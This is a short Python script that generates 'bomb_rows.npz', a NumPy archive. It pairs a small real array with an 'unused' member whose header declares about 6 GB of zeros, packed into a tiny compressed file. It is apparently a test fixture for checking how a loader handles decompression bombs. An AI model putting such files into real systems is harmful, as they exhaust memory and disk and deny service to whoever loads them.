import io, zipfile, numpy as np
from numpy.lib import format as F
# like bomb.npz, but the unused member's shape matches the 300 rows: (300, 21474836) uint8 = 6 GB
b = io.BytesIO(); np.save(b, np.random.default_rng(0).standard_normal((300, 16)).astype(np.float32))
h = io.BytesIO(); F.write_array_header_1_0(h, {"descr": "|u1", "fortran_order": False, "shape": (300, 21474836)})
with zipfile.ZipFile("bomb_rows.npz", "w", zipfile.ZIP_DEFLATED) as zf:
    zf.writestr("vectors.npy", b.getvalue())
    with zf.open("unused.npy", "w", force_zip64=True) as fh:
        fh.write(h.getvalue()); left = 300 * 21474836
        while left: k = min(left, 64 << 20); fh.write(b"\0" * k); left -= k
